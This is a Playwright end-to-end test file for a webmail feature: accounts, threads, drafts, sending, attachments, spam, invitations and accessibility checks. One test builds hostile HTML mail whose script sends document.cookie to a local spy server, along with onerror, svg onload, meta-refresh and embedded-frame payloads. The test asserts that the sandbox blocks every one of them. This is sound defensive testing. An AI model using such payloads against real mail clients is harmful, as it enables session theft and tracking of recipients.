import type { Page } from "@playwright/test";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { barriers, beside, picture } from "./support/looks.js";
import { Dovecot, Smtp, message } from "./support/mail.js";
import { expect, test, timed } from "./support/test.js";

/*
 * The mail of somebody's account at a server of other hands: added, read, answered, looked for, sorted, and removed.
 */

test.use({ serverOptions: ["--private-hosts", "127.0.0.1"] });

// A message waits for ten seconds until it is sent.
test.describe.configure({ timeout: 90_000 });

const PASSWORD = "the password of her mail";

/** Adds the account by hand, as its address has no domain of its own. */
async function add(page: Page, imap: Dovecot, smtp: Smtp) {
  await page.goto("/settings/mail/new");
  await page.getByLabel("E-mail address").fill("ada@example.org");
  await page.getByLabel("Your name").fill("Ada Lovelace");
  await page.getByRole("button", { name: "Write them myself" }).click();
  await page.getByLabel("User name").fill("ada@example.org");
  await page.getByLabel("Password").fill(PASSWORD);
  for (const [group, port] of [["Incoming mail (IMAP)", imap.port], ["Outgoing mail (SMTP)", smtp.port]] as const) {
    const servers = page.getByRole("group", { name: group });
    await servers.getByLabel("Server").fill("127.0.0.1");
    await servers.getByLabel("Port").fill(String(port));
    await servers.getByLabel("Encryption").selectOption("plain");
  }
  await page.getByRole("button", { name: "Sign in and add" }).click();
  await expect(page.locator(".notice--success")).toContainText("The account is there");
}

const rows = (page: Page) => page.locator(".mail-row");
const row = (page: Page, subject: string) => rows(page).filter({ hasText: subject });

/** Waits until what the server has is in the list. */
async function listed(page: Page, count: number) {
  await expect(async () => {
    await page.goto("/mail");
    await expect(rows(page)).toHaveCount(count, { timeout: 1000 });
  }).toPass({ timeout: 20000 });
}

let imap: Dovecot;
let smtp: Smtp;

test.beforeEach(async () => {
  [imap, smtp] = await Promise.all([Dovecot.start(PASSWORD), Smtp.start()]);
});

test.afterEach(async () => {
  await Promise.all([imap.stop(), smtp.stop()]);
});

test("an account is added, its mail read in its thread, and the account removed", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  await page.goto("/courrier");
  await expect(page.getByRole("heading", { name: "Your mail, beside your calendar" })).toBeVisible();
  expect(await barriers(page), "without an account").toEqual([]);
  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?\n\nBob", ["Message-ID: <one@x>"]));
  imap.deliver(message("Carla <carla@example.org>", "Re: Choir on Thursday", "I do.\n\nBob Baker wrote:\n> Do you come?", ["Message-ID: <two@x>", "References: <one@x>", "In-Reply-To: <one@x>"]));
  imap.deliver(message("News <news@example.net>", "Weekly news", "Nothing new: https://example.net/none."));
  await add(page, imap, smtp);
  expect(await barriers(page), "the account").toEqual([]);
  await picture(page, "mail-account");
  await listed(page, 2);
  await expect(row(page, "Choir on Thursday")).toHaveClass(/mail-row--unread/);
  expect(await barriers(page), "the list").toEqual([]);
  await picture(page, "mail-list");

  await page.goto("/");
  await expect(page.locator("[data-mail-card]")).toContainText("Weekly news");
  expect(await barriers(page), "the dashboard").toEqual([]);
  await picture(page, "mail-card");

  await page.goto("/mail");
  await row(page, "Choir on Thursday").getByRole("link").click();
  const thread = page.locator(".thread");
  await expect(thread.getByRole("heading", { level: 1 })).toHaveText("Choir on Thursday");
  await expect(thread.locator(".message")).toHaveCount(2);
  await expect(thread.getByText("I do.", { exact: true })).toBeVisible();
  await expect(thread.locator(".message__quote")).toHaveCount(1);
  await expect(row(page, "Choir on Thursday")).not.toHaveClass(/mail-row--unread/);
  expect(await barriers(page), "the thread").toEqual([]);
  await picture(page, "mail-thread");

  await page.goto("/settings/accounts");
  expect(await barriers(page), "the accounts").toEqual([]);
  await page.getByRole("link", { name: "ada@example.org" }).click();
  await page.locator("summary", { hasText: "Remove" }).click();
  await page.locator(".revoke[open]").getByRole("button").click();
  await expect(page.locator(".notice--success")).toContainText("is gone from here");
  await page.goto("/mail");
  await expect(rows(page)).toHaveCount(0);
  await expect(page.getByRole("heading", { name: "Your mail, beside your calendar" })).toBeVisible();
});

test("an answer is kept while it is typed, sent, and taken back while there is time", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?"));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "Choir").getByRole("link").click();
  await expect(page.locator(".thread")).toBeVisible();
  await page.keyboard.press("r");
  await expect(page.getByLabel("To", { exact: true })).toHaveValue(/bob@example\.org/);
  await expect(page.getByLabel("Subject")).toHaveValue("Re: Choir on Thursday");
  const text = page.getByRole("textbox", { name: "Text" });
  await expect(text).toHaveValue(/> Do you come\?/);
  await text.press("Control+Home");
  await page.keyboard.type("Yes, I do.");
  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");
  await page.reload();
  await expect(text).toHaveValue(/^Yes, I do\.\n\nOn /);
  expect(await barriers(page), "writing").toEqual([]);
  await picture(page, "mail-write");
  await page.getByLabel("Attachments").setInputFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("la la") });
  await expect(page.getByText("notes.txt")).toBeVisible();

  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect(page.locator(".toast")).toContainText("It is being sent");
  await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
  await expect(page.locator(".toast")).toContainText("a draft again");
  expect(smtp.messages).toEqual([]);

  await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Drafts/ }).click();
  await row(page, "Re: Choir on Thursday").getByRole("link").first().click();
  await expect(page.getByText("notes.txt")).toBeVisible();
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
  const [sent] = smtp.messages;
  expect(sent!.to).toEqual(["bob@example.org"]);
  expect(sent!.text).toContain("Subject: Re: Choir on Thursday");
  expect(sent!.text).toMatch(/In-Reply-To: </i);
  expect(sent!.text).toContain("notes.txt");
  await expect(async () => {
    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Sent/ }).click();
    await expect(row(page, "Re: Choir on Thursday")).toHaveCount(1, { timeout: 1000 });
  }).toPass({ timeout: 20000 });
});

test("nothing that is typed is lost: by two windows, without a session, or thrown away", async ({ page, account, context }) => {
  expect(account.name).toBeTruthy();
  await add(page, imap, smtp);
  await page.goto("/mail/write");
  const text = page.getByRole("textbox", { name: "Text" });
  await page.getByLabel("Subject").fill("Plans");
  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");
  const other = await context.newPage();
  await other.goto(page.url());
  await text.fill("From the first window");
  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");
  await other.getByRole("textbox", { name: "Text" }).fill("From the second window");
  await expect(other.locator("[data-mail-state]")).toContainText("changed or sent in another window");
  await other.getByRole("button", { name: "Save draft" }).click();
  await expect(other.locator(".notice--error")).toContainText("changed in another window");
  await expect(other.getByRole("textbox", { name: "Text" })).toHaveValue("From the second window");
  expect(await barriers(other), "a draft that was changed meanwhile").toEqual([]);
  await other.close();

  // The session ends while somebody writes: what was to be sent is there again once they have signed in.
  const cookies = await context.cookies();
  await context.clearCookies();
  await page.getByLabel("To", { exact: true }).fill("bob@example.org");
  await text.fill("Typed without a session");
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect(page).toHaveURL(/sign-in/);
  await context.addCookies(cookies);
  await page.goto("/mail/write");
  await expect(text).toHaveValue("Typed without a session");
  await expect(page.getByLabel("To", { exact: true })).toHaveValue("bob@example.org");
  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");

  await page.getByRole("button", { name: "Discard" }).click();
  await expect(page.locator(".toast")).toContainText("The draft is gone");
  await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
  await expect(page.locator(".toast")).toContainText("The draft is back");
  await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Drafts/ }).click();
  await row(page, "Plans").getByRole("link").first().click();
  await expect(text).toHaveValue("Typed without a session");
});

test("another sender has another signature, and an open message is moved", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?"));
  await add(page, imap, smtp);
  await page.getByLabel("Signature", { exact: true }).fill("Ada");
  await page.locator("#change").locator("..").getByRole("button", { name: "Save" }).click();
  await page.getByText("Add an address").first().click();
  await page.getByLabel("E-mail address").fill("desk@example.org");
  await page.getByRole("button", { name: "Add an address" }).click();
  await page.locator("summary", { hasText: "desk@example.org" }).first().click();
  await page.getByLabel("Signature (empty: that of the account)").nth(1).fill("The desk");
  await page.locator("details[open] form").filter({ hasText: "Signature (empty" }).getByRole("button", { name: "Save" }).click();
  await page.goto("/mail/write");
  const text = page.getByRole("textbox", { name: "Text" });
  await expect(text).toHaveValue("\n\n-- \nAda\n");
  await page.getByLabel("From").selectOption({ label: "desk@example.org" });
  await expect(text).toHaveValue("\n\n-- \nThe desk\n");
  await page.getByRole("button", { name: "Formatting" }).click();
  await page.getByLabel("From").selectOption({ index: 0 });
  await expect(page.getByRole("textbox", { name: "Text" })).toContainText("Ada");
  await expect(page.getByRole("textbox", { name: "Text" })).not.toContainText("The desk");

  await listed(page, 1);
  await row(page, "Choir").getByRole("link").click();
  await expect(page.locator(".thread")).toBeVisible();
  await page.keyboard.press("v");
  await expect(page.locator(".thread__place").first()).toBeFocused();
  expect(await barriers(page), "the folders to move to").toEqual([]);
  await picture(page, "mail-move");
  await page.setViewportSize({ width: 390, height: 844 });
  await page.reload();
  await page.locator(".thread__move > summary").click();
  await picture(page, "mail-move-phone");
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  await page.locator(".thread__place", { hasText: "Archive" }).click();
  await expect(page.locator(".toast")).toContainText("1 message moved to Archive");
});

test("what is written with formatting goes out as it was seen, and as plain text", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?"));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "Choir").getByRole("link").click();
  await page.getByRole("link", { name: "Reply", exact: true }).click();
  const text = page.getByRole("textbox", { name: "Text" });
  await expect(text).toHaveValue(/> Do you come\?/);
  await page.getByRole("button", { name: "Formatting" }).click();
  await expect(text.locator("blockquote")).toHaveText("Do you come?");
  await text.press("Control+Home");
  await page.keyboard.type("Dear Bob, I ");
  await page.getByRole("button", { name: "Bold" }).click();
  await expect(page.getByRole("button", { name: "Bold" })).toHaveAttribute("aria-pressed", "true");
  await page.keyboard.type("do");
  await page.keyboard.press("Control+b");
  await page.keyboard.type(" come:");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "List", exact: true }).click();
  await page.keyboard.type("with cake");
  await page.keyboard.press("Enter");
  // Of what is pasted, nothing is kept that could not have been made here.
  await text.evaluate((editor) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/html", `<p style="color:red" onclick="x()">with <a href="https://example.org/tea" class="x">tea</a><img src="https://example.net/spy"><script>evil()</script></p>`);
    editor.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  });
  await expect(text.getByRole("link", { name: "tea" })).toBeVisible();
  expect(await text.innerHTML()).not.toMatch(/style|onclick|class|img|script/);
  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");
  expect(await barriers(page), "writing with formatting").toEqual([]);
  await picture(page, "mail-write-rich");
  await page.reload();
  await expect(text.locator("b")).toHaveText("do");
  await expect(text.getByRole("listitem")).toHaveCount(2);

  // The bar is one stop of the keyboard, with arrows in it.
  await page.getByRole("button", { name: "Bold" }).focus();
  await page.keyboard.press("ArrowRight");
  await expect(page.getByRole("button", { name: "Italic" })).toBeFocused();
  await page.keyboard.press("Tab");
  await expect(text).toBeFocused();

  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
  const sent = smtp.messages[0]!.text.replace(/=\n/g, "").replace(/=3D/g, "=");
  expect(sent).toContain("multipart/alternative");
  expect(sent).toMatch(/<b>do<\/b> come:/);
  expect(sent).toContain('<a href="https://example.org/tea"');
  expect(sent).toMatch(/Dear Bob, I do come:\n- with cake\n- with tea <https:\/\/example.org\/tea>/);
  expect(sent).toMatch(/\n> Do you come\?/);
});

test("all are answered, a mail is forwarded with its date and sent later, and people are offered", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?", ["Cc: Carla Clark <carla@example.org>"]));
  imap.deliver(message("Ada <ada@example.org>", "From before", "Hello", ["Cc: Zoe Young <zoe@years.example>"]), "Sent");
  await add(page, imap, smtp);
  await expect(async () => {
    await page.goto("/mail");
    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Sent/ }).click();
    await expect(row(page, "From before")).toHaveCount(1, { timeout: 1000 });
  }).toPass({ timeout: 20000 });
  await listed(page, 1);
  await row(page, "Choir").getByRole("link").click();
  await expect(page.locator(".thread")).toBeVisible();
  await page.keyboard.press("a");
  await expect(page.getByLabel("To", { exact: true })).toHaveValue(/bob@example\.org/);
  await expect(page.getByLabel("Cc", { exact: true })).toHaveValue(/carla@example\.org/);
  const text = page.getByRole("textbox", { name: "Text" });
  await expect(text).toHaveValue(/\n\nOn \w{3}, \d+ \w{3} \d{4}, [\d:]+(am|pm)?( UTC)?, Bob Baker <bob@example\.org> wrote:\n> Do you come\?/);
  await page.goBack();
  await page.getByRole("link", { name: "Forward" }).first().click();
  await expect(page.getByLabel("Subject")).toHaveValue("Fwd: Choir on Thursday");
  await expect(text).toHaveValue(/---------- Forwarded message ----------\nFrom: Bob Baker <bob@example\.org>\nDate: \w{3}, .*\nSubject: Choir on Thursday\nTo: /);
  // Whom she wrote to by another program before the account was here.
  await page.getByLabel("To", { exact: true }).pressSequentially("yo");
  await expect(page.locator("#mail-people option")).toHaveAttribute("value", /Zoe Young <zoe@years\.example>/);
  await page.getByLabel("To", { exact: true }).fill("Zoe Young <zoe@years.example>");
  await page.locator("summary", { hasText: "Send later" }).click();
  await page.getByRole("button", { name: "Send later" }).click();
  await expect(page.locator(".toast")).toContainText("It will be sent");
  await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Drafts/ }).click();
  await expect(row(page, "Fwd: Choir")).toContainText("It will be sent");
  await picture(page, "mail-later");
  expect(smtp.messages).toEqual([]);
});

test("what is spam goes there and back, and pictures and documents are shown where they cannot run", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
  const pdf = Buffer.from("%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n").toString("base64");
  const file = (kind: string, name: string, content: string) =>
    `--b\nContent-Type: ${kind}\nContent-Disposition: attachment; filename=${name}\nContent-Transfer-Encoding: base64\n\n${content}\n`;
  const parts = [
    "--b\nContent-Type: text/plain\n\nLook.\n",
    file("image/png", "dot.png", pixel),
    file("application/pdf", "empty.pdf", pdf),
    file("text/html", "page.html", Buffer.from("<script>alert(1)</script>").toString("base64")),
    "--b--",
  ].join("");
  imap.deliver(message("Bob <bob@example.org>", "Files", parts, ["Content-Type: multipart/mixed; boundary=b"]));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "Files").getByRole("link").click();
  const opens = page.context().waitForEvent("page");
  await page.getByRole("link", { name: "Show dot.png" }).click();
  const shown = await opens;
  await shown.waitForLoadState();
  expect(await shown.evaluate(() => document.images[0]?.naturalWidth)).toBe(1);
  await shown.close();
  await expect(page.getByRole("link", { name: "Show page.html" })).toHaveCount(0);
  const at = await page.getByRole("link", { name: "Show empty.pdf" }).getAttribute("href");
  const opened = await page.request.get(at!);
  expect(opened.headers()["content-type"]).toBe("application/pdf");
  expect(opened.headers()["content-disposition"]).toContain("inline");
  // Chromium's own viewer shows a document under this policy; the shell of it that the tests drive has none.
  expect(opened.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
  const saved = await page.request.get(at!.replace("?show", ""));
  expect(saved.headers()["content-disposition"]).toContain("attachment");
  await picture(page, "mail-files");

  await page.locator(".thread").getByRole("button", { name: "Spam", exact: true }).click();
  await expect(page.locator(".toast")).toContainText("1 message moved to Spam");
  await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Spam/ }).click();
  await row(page, "Files").getByRole("link").click();
  await page.locator(".thread").getByRole("button", { name: "No spam" }).click();
  await expect(page.locator(".toast")).toContainText("1 message moved to Inbox");
});

test("several messages are sorted at once and brought back, by hand and by keys", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  for (const subject of ["One", "Two", "Three"]) imap.deliver(message("Bob <bob@example.org>", subject, subject));
  await add(page, imap, smtp);
  await listed(page, 3);
  await row(page, "One").getByRole("checkbox").check({ force: true });
  await row(page, "Two").getByRole("checkbox").check({ force: true });
  expect(await barriers(page), "with some chosen").toEqual([]);
  await picture(page, "mail-bulk");
  await page.getByRole("button", { name: "Archive" }).click();
  await expect(page.locator(".toast")).toContainText("2 messages moved to Archive");
  await expect(rows(page)).toHaveCount(1);
  await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
  await expect(rows(page)).toHaveCount(3);

  await page.goto("/mail");
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  await page.keyboard.press("#");
  await expect(page.locator(".toast")).toContainText("1 message moved to Bin");
  await expect(rows(page)).toHaveCount(2);
  await page.keyboard.press("?");
  await expect(page.getByRole("dialog", { name: "Keyboard" })).toBeVisible();
  await picture(page, "mail-keys");
  await page.keyboard.press("Escape");
  await page.keyboard.press("/");
  await page.keyboard.type("two");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("heading", { level: 1, name: /Found for/ })).toBeVisible();
  await expect(row(page, "Two")).toHaveCount(1);
  await expect(row(page, "One")).toHaveCount(0);
});

test("what arrives is in the open list by itself, and what is chosen there stays chosen", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob <bob@example.org>", "First", "First"));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "First").getByRole("checkbox").check({ force: true });
  imap.deliver(message("Carla <carla@example.org>", "Second", "Second"));
  await expect(row(page, "Second")).toBeVisible({ timeout: 30000 });
  await expect(row(page, "First").getByRole("checkbox")).toBeChecked();
});

test("nothing of a hostile message runs, is fetched, or learns of the page", async ({ page, account, context }) => {
  expect(account.name).toBeTruthy();
  const asked: string[] = [];
  const spy = createServer((request, answer) => {
    asked.push(request.url ?? "");
    answer.end();
  });
  await new Promise<void>((listens) => spy.listen(0, "127.0.0.1", listens));
  const at = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
  const hostile = [
    `<script>parent.document.title = "taken"; fetch("${at}/script?" + document.cookie)</script>`,
    `<img src="${at}/picture"><img src=x onerror="new Image().src='${at}/onerror'">`,
    `<link rel="stylesheet" href="${at}/sheet.css"><style>@import url("${at}/import.css"); body { background: url(${at}/style) }</style>`,
    `<div style="background-image: url(${at}/background)">styled</div><video src="${at}/video" poster="${at}/poster" autoplay></video>`,
    `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">`,
    `<svg onload="fetch('${at}/svg')"><image href="${at}/svgimage" /></svg><meta http-equiv="refresh" content="0; url=${at}/refresh">`,
    `<form action="${at}/form"><button id="send">Send</button></form><base href="${at}/"><p>The end</p>`,
  ].join("\n");
  imap.deliver(message("Mallory <mallory@example.net>", "Hostile", hostile, ["Content-Type: text/html; charset=utf-8"]));
  await add(page, imap, smtp);
  await listed(page, 1);
  const requests: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  await row(page, "Hostile").getByRole("link").click();
  const frame = page.frameLocator("[data-mail-frame]");
  await expect(frame.getByText("The end")).toBeVisible();
  await page.waitForTimeout(1000);
  expect(await page.title()).toContain("Hostile");
  expect(requests.filter((url) => url.startsWith(at))).toEqual([]);
  expect(asked).toEqual([]);
  const inside = page.frames().find((inner) => inner.url().includes("/body"))!;
  const answer = await page.request.get(inside.url());
  const policy = answer.headers()["content-security-policy"]!;
  expect(policy).toContain("sandbox");
  expect(policy).not.toContain("allow-scripts");
  expect(policy).toContain("default-src 'none'");
  await picture(page, "mail-hostile");

  // What somebody else sees of it is nothing.
  const stranger = await page.context().browser()!.newContext();
  expect((await stranger.request.get(inside.url())).status()).toBe(404);
  await stranger.close();
  await new Promise((done) => spy.close(done));
});

test.describe("on a phone", () => {
  test.use({ viewport: { width: 390, height: 844 }, hasTouch: true });

  test("there is one column, and a way back", async ({ page, account }) => {
    expect(account.name).toBeTruthy();
    imap.deliver(message("Bob Baker <bob@example.org>", "A subject that is so long that it has no room on a small screen at all", "Do you come?"));
    await add(page, imap, smtp);
    await listed(page, 1);
    expect(await barriers(page), "the list").toEqual([]);
    await picture(page, "mail-phone-list");
    await row(page, "A subject").getByRole("link").click();
    await expect(page.locator(".thread")).toBeVisible();
    expect(await barriers(page), "the message").toEqual([]);
    await picture(page, "mail-phone-thread");
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await page.getByRole("link", { name: "Back to the list" }).click();
    await expect(rows(page)).toHaveCount(1);
    await page.getByText("Inbox", { exact: true }).first().click();
    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Sent/ }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Sent" })).toBeVisible();
    await page.goto("/mail/write");
    expect(await barriers(page), "writing").toEqual([]);
    await picture(page, "mail-phone-write");
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  });
});

test.describe("without scripts", () => {
  test.use({ javaScriptEnabled: false });

  test("mail is read, sorted and written", async ({ page, account }) => {
    expect(account.name).toBeTruthy();
    imap.deliver(message("Bob <bob@example.org>", "Plain", "Do you come?"));
    await add(page, imap, smtp);
    await listed(page, 1);
    await row(page, "Plain").getByRole("link").click();
    await expect(page.locator(".message__text")).toContainText("Do you come?");
    await page.locator(".thread").getByRole("button", { name: "Archive" }).click();
    await expect(page.locator(".toast")).toContainText("1 message moved to Archive");
    await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
    await expect(rows(page)).toHaveCount(1);
    await page.goto("/mail/write");
    await page.getByLabel("To", { exact: true }).fill("Bob <bob@example.org>");
    await page.getByLabel("Subject").fill("From here");
    await page.getByRole("button", { name: "Save draft" }).click();
    await expect(page.getByLabel("Subject")).toHaveValue("From here");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await expect(page.locator(".toast")).toContainText("It is being sent");
    await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
  });
});

test("an event is made of a mail and leads back to it, and its attendees are written to", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  imap.deliver(message("Bob Baker <bob@example.org>", "Re: Budget review", "Shall we meet next Tuesday from 10:00 to 11:30, or on Friday at 14:00?\nWhere: Room 12\nhttps://example.zoom.us/j/123\n\nBob", ["Message-ID: <budget@x>"]));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "Budget").getByRole("link").click();
  expect(await barriers(page), "the message").toEqual([]);
  await picture(page, "mail-making-links");
  await page.getByRole("link", { name: "Make an event" }).click();
  await expect(page.getByLabel("Title")).toHaveValue("Budget review");
  await expect(page.getByLabel("Location")).toHaveValue("Room 12");
  await expect(page.getByLabel("Video link")).toHaveValue("https://example.zoom.us/j/123");
  await expect(page.getByLabel("End time")).toHaveValue("11:30");
  expect(await barriers(page), "the form of an event").toEqual([]);
  await picture(page, "mail-making-event");
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await barriers(page), "the form of an event on a phone").toEqual([]);
  await picture(page, "mail-making-event-phone");
  expect(await beside(page)).toBe(0);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole("button", { name: "Make the event" }).click();
  await expect(page).toHaveURL(/\/event\/\d+\//);
  const back = page.getByRole("link", { name: "From a mail: Re: Budget review" });
  await expect(back).toBeVisible();
  expect(await barriers(page), "the event").toEqual([]);
  await picture(page, "mail-making-made");
  const event = new URL(page.url()).pathname;
  await page.getByRole("link", { name: "Mails about it" }).click();
  await expect(page.getByRole("heading", { name: "Mails about “Budget review”" })).toBeVisible();
  expect(await barriers(page), "the mail about it").toEqual([]);
  await picture(page, "mail-making-about");
  await page.getByRole("link", { name: "Re: Budget review" }).click();
  await expect(page.locator(".message__text")).toContainText("Shall we meet");

  await page.getByRole("link", { name: "Make a task" }).click();
  await expect(page.getByLabel("To be done by")).not.toHaveValue("");
  expect(await barriers(page), "the form of a task").toEqual([]);
  await picture(page, "mail-making-task");
  await page.getByRole("button", { name: "Make the task" }).click();
  await expect(page.locator(".toast")).toContainText("The task is made");
  await expect(page.locator(".message__text")).toContainText("Shall we meet");

  const guests = ["ORGANIZER:mailto:bob@example.org", "ATTENDEE:mailto:carla@example.org"];
  await account.put("review.ics", ...timed("review", "20300305T100000", "20300305T110000", "Review", ...guests));
  await page.goto(`${event.replace(/[^/]+$/, "review.ics")}/invitation`);
  expect(await barriers(page), "who takes part").toEqual([]);
  await page.getByRole("link", { name: "Write to the attendees" }).click();
  await expect(page.getByLabel("To", { exact: true })).toHaveValue(/carla@example\.org/);
  await expect(page.getByLabel("Subject")).toHaveValue("Review");
  await picture(page, "mail-making-write");
});

test("an invitation that comes by mail is answered where it is read", async ({ page, account }) => {
  expect(account.name).toBeTruthy();
  const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10).replaceAll("-", "");
  const day = inDays(7);
  await account.put("lunch.ics", ...timed("lunch", `${day}T123000`, `${day}T133000`, "Lunch"));
  await account.put("tea.ics", ...timed("tea", `${day}T170000`, `${day}T173000`, "Tea"));
  await account.put("train.ics", ...timed("train", `${inDays(21)}T113000`, `${inDays(21)}T123000`, "Train"));
  const calendar = [
    "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Elsewhere//EN", "METHOD:REQUEST", "BEGIN:VEVENT", "UID:elsewhere-1",
    "DTSTAMP:20260110T080000Z", `DTSTART;TZID=Europe/Zurich:${day}T120000`, `DTEND;TZID=Europe/Zurich:${day}T130000`,
    "RRULE:FREQ=WEEKLY;COUNT=4", "SUMMARY:Budget review", "LOCATION:Room 12", "ORGANIZER;CN=Bob Baker:mailto:bob@example.org",
    "ATTENDEE;CN=Ada;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:ada@example.org",
    "ATTENDEE;CN=Carla;PARTSTAT=ACCEPTED:mailto:carla@example.org", "END:VEVENT", "END:VCALENDAR",
  ].join("\n");
  const parts = `--b\nContent-Type: text/plain\n\nPlease come.\n--b\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\n\n${calendar}\n--b--`;
  imap.deliver(message("Bob Baker <bob@example.org>", "Invitation: Budget review", parts, ["Content-Type: multipart/alternative; boundary=b"]));
  await add(page, imap, smtp);
  await listed(page, 1);
  await row(page, "Invitation").getByRole("link").click();
  const card = page.locator(".thread").getByRole("region", { name: "Bob Baker invites you." });
  await expect(card).toContainText("Room 12");
  await expect(card).toContainText("Carla");
  await expect(card.locator("[data-invitation-conflicts]")).toContainText("Lunch");
  await expect(card.locator("[data-invitation-day]")).toContainText("Tea");
  await expect(card.locator("[data-invitation-series]")).toContainText("At 2 of 4 dates within a year");
  await expect(card.locator("[data-invitation-series]")).toContainText(/(, 11:30|, 12:00) – 13:00: Train/);
  expect(await barriers(page), "the invitation").toEqual([]);
  await picture(page, "mail-invitation");
  await card.getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".thread")).toContainText("You have answered");
  await picture(page, "mail-invitation-answered");
  await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
  expect(JSON.stringify(smtp.messages)).toContain("METHOD:REPLY");

  // Somebody else goes, from the page of who takes part.
  const event = await page.locator(".thread").getByRole("link", { name: "Open the event" }).getAttribute("href");
  await page.goto(`${event!.split("?")[0]}/invitation`);
  expect(await barriers(page), "who takes part").toEqual([]);
  await picture(page, "invitation-guest");
  await page.getByLabel("Their address of e-mail").fill("zoe@example.net");
  await page.getByRole("button", { name: "Send somebody else" }).click();
  await expect(page.locator(".notice--success")).toContainText("those concerned are told");
  await expect(page.locator("dl").first()).toContainText("delegated");
  await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(2);
  await page.setViewportSize({ width: 390, height: 844 });
  await picture(page, "invitation-guest-phone");
  expect(await beside(page)).toBe(0);
});
